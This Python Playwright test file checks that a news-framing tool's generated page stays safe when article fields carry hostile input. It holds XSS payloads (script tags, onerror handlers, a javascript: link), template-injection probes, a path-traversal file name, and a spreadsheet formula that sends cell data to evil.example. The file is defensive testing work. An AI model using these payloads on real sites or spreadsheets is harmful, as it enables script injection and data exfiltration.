"""A run in which everything that can be hostile is: nothing runs, nothing loads, the layout holds."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from xml.etree import ElementTree

import pytest
from playwright.sync_api import Download, Page, expect

from framing.example import SIDES, folder
from framing.pipeline import Options, analyse
from framing.publish.page import build
from framing.records.article import Article, Outside, Skipped
from tests.browser.conftest import Open, unfold
from tests.browser.test_access import OUTSIDE, WIDTHS
from tests.conftest import article_of

MARKUP = (
    '</script><script>owned=1</script><img src=x onerror="owned=1"><!-- <svg onload=owned=1> '
    "--></title></style>{{ 7*7 }}{% raw %}${owned=1}\"'`&amp;&#60;"
)
UNSEEN = "\x00\x07\x1b[2J\u202e\u2066\u200f\u200b\u200d\ufeff\u2028\ufffe"
PILE = "Z" + "\u0301\u0327\u0334" * 30 + "\N{WOMAN}\u200d\N{WOMAN}\u200d\N{GIRL}\u200d\N{BOY}"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"x")'
LINK = "javascript:owned=1"
LONG_NAME = "N" * 500
SAID = (
    "The ministry said that 12 people were killed when police fired on rioters near the school. "
    f'It claimed that {MARKUP} nobody else was hurt, according to "{PILE} {UNSEEN}" of the teachers\' union. '
    "Protesters said that the exit had been locked. The claim could not be independently verified."
)
OVERLAPS = """() => {
  const found = [];
  const shown = (element) => {
    const style = getComputedStyle(element);
    return element.getClientRects().length && style.position === 'static' && style.display !== 'inline';
  };
  for (const parent of document.querySelectorAll('main, main :not(p, span, svg, svg *, .txt, .txt *)')) {
    const children = [...parent.children].filter(shown);
    for (const [place, one] of children.entries()) {
      const a = one.getBoundingClientRect();
      for (const other of children.slice(place + 1, place + 3)) {
        const b = other.getBoundingClientRect();
        const wide = Math.min(a.right, b.right) - Math.max(a.left, b.left);
        const high = Math.min(a.bottom, b.bottom) - Math.max(a.top, b.top);
        if (wide > 2 && high > 2) found.push(one.outerHTML.slice(0, 80) + ' | ' + other.outerHTML.slice(0, 80));
      }
    }
  }
  return found.slice(0, 5);
}"""


@pytest.fixture(scope="module")
def hostile_page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The page of articles whose names, titles, bylines, times, files, event and texts are hostile."""
    results = replace(
        analyse(list(_articles()), Options(sides_file=folder() / SIDES)),
        skipped=(Skipped(file=f"{MARKUP}{UNSEEN}", reason=f"is {MARKUP}", remedy=LINK),),
        outside=(Outside(file=LONG_NAME, file_start=0, file_end=3, reason="other", text=MARKUP + UNSEEN),),
    )
    path = tmp_path_factory.mktemp("hostile") / "index.html"
    path.write_text(build(results, measured={}), encoding="utf-8")
    return path


def _articles() -> Iterator[Article]:
    names = [
        f"{LONG_NAME}{MARKUP}",
        f"{FORMULA}",
        f"{PILE} {UNSEEN}\N{ARABIC LETTER ALEF}\N{ARABIC LETTER BEH} Daily",
    ]
    titles = [f"Riot {MARKUP} " * 40, f"{FORMULA} {'word ' * 300}", f"{PILE}{UNSEEN} {LINK}"]
    for number, (name, title) in enumerate(zip(names, titles, strict=True)):
        body = [
            SAID,
            f"{FORMULA}. Officials insisted that 14 protesters were injured. {LINK}",
            "w" * (10 if number else 200_000),
            SAID,
        ]
        article = article_of(
            *body, title=title, source=name, article_id=f"{number}\"'><script>{LONG_NAME[:90]}"
        )
        yield replace(
            article,
            byline=f"{MARKUP}{UNSEEN}",
            agency=FORMULA,
            published=LINK,
            updated=MARKUP,
            url=LINK,
            event=f"{MARKUP}{LONG_NAME}",
            summary=f"{MARKUP} {UNSEEN} {PILE}",
            file=f"../{MARKUP}{LONG_NAME}.txt",
        )


def test_nothing_hostile_runs_loads_or_breaks_the_layout(hostile_page: Path, open_page: Open) -> None:
    page = open_page(
        hostile_page, fragment="#m-%22%3E%3Cimg%20src=x%20onerror=owned=1%3E", accept_downloads=True
    )
    page.locator("#show-removed").click()
    for width, height in ((1400, 1000), (390, 844)):
        page.set_viewport_size({"width": width, "height": height})
        page.wait_for_timeout(300)
        _holds(page)
    assert MARKUP.split("{")[0] in (page.locator("#head-A").text_content() or "")
    page.evaluate("location.hash = '\"><img src=x onerror=owned=1>'")
    unfold(page)
    page.locator("button.num").first.click()
    expect(page.locator("#drawer")).to_be_visible()
    _holds(page)
    page.keyboard.press("Escape")
    page.set_viewport_size({"width": 1400, "height": 1000})
    page.locator(".col.shown button.tg").first.click()
    expect(page.locator("#note")).to_be_visible()
    _holds(page)
    page.keyboard.press("Escape")
    for button in page.locator("#views .pop [data-view]").all():
        if button.get_attribute("hidden") is None:
            view = button.get_attribute("data-view")
            page.locator("#views summary").click()
            button.click()
            _holds(page)
            page.evaluate("name => document.querySelector(`[data-view=${name}]`).click()", view)
    _downloads_are_harmless(page)
    _is_clean(page)


def _holds(page: Page) -> None:
    scroll, window = page.evaluate(WIDTHS)
    assert scroll <= window
    assert page.evaluate(OUTSIDE) == []
    assert page.evaluate(OVERLAPS) == []


def _is_clean(page: Page) -> None:
    assert page.evaluate("typeof owned") == "undefined"
    assert page.locator("img, iframe, object, embed, base, body link").count() == 0
    assert page.locator("body script:not([type='application/json'])").count() <= 2
    targets = page.eval_on_selector_all("a[href]", "links => links.map(link => link.getAttribute('href'))")
    assert all(target.startswith("#") for target in targets)
    assert not set(page.content()) & set("\x00\x07\x1b\u202e\u2066")


def _downloads_are_harmless(page: Page) -> None:
    for button in page.locator("[data-csv]:visible").all():
        text = _saved(page, button.click).decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text)):
            assert not any(
                cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not cell[1:2].isdigit() for cell in row
            )
    for button in page.locator("[data-image][data-format=svg]:visible").all():
        tree = ElementTree.fromstring(_saved(page, button.click))
        assert not [e.tag for e in tree.iter() if e.tag.endswith(("script", "foreignObject", "}image"))]
        assert not [name for e in tree.iter() for name in e.attrib if name.startswith("on")]


def _saved(page: Page, click: object) -> bytes:
    with page.expect_download() as waiting:
        assert callable(click)
        click()
    download: Download = waiting.value
    assert set(download.suggested_filename) <= set("abcdefghijklmnopqrstuvwxyz-.")
    return Path(download.path()).read_bytes()
